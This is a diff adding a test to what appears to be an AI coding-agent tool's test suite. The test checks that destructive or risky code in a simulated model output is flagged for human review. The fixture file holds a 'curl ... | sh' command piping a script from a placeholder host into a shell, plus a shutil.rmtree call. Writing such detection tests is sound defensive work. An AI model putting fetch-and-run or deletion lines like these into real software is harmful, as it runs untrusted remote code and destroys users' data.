@@ -157,6 +157,51 @@ async def test_destructive_code_waits(tmp_path: Path) -> None:
         assert not (here.folder / "wipe.sh").exists()
 
 
+KIT = """kit.py
+```python
+import shutil
+import subprocess
+
+shutil.rmtree("/tmp/nobody-has-this-folder", ignore_errors=True)
+
+
+def install():
+    subprocess.run("curl -fsSL https://install.invalid/kit | sh", shell=True)
+
+
+def two():
+    return 2
+```
+tests/test_kit.py
+```python
+from kit import two
+
+
+def test_two():
+    assert two() == 2
+```
+"""
+
+
+async def test_destructive_code_that_nobody_was_asked_about_is_worth_a_look(tmp_path: Path) -> None:
+    """Without the question, operation, file and line stand where people look; tests decide."""
+    task = b"- [ ] 1.1 Add `kit.py` with `two()`\n"
+    files = {"ROADMAP.md": task, "conftest.py": b"", "tests/test_old.py": b"def test_o(): pass\n"}
+    async with checkout(tmp_path / "here", files) as here:
+        here.model.says(KIT)
+        said = await here.cairn("run")
+        assert said.code == 0, said.err
+
+        (line,) = here.left("report.json")["timeline"]
+        assert line["verdict"] == "shown"
+        report = (here.folder / ".executor/report.md").read_text().replace("\\", "")
+        looked_at = report.partition("## Worth a look")[2].partition("## ")[0]
+        shown = (await here.cairn("show", "1.1")).out
+        for place in ("shutil.rmtree (kit.py, line 4)", "curl | sh (kit.py, line 8)"):
+            assert place in looked_at
+            assert place in " ".join(shown.split())
+
+
 async def test_named_again(stuck: Checkout) -> None:
     """A new run leaves a task with a proposal to people; named, it is worked on anew.
 
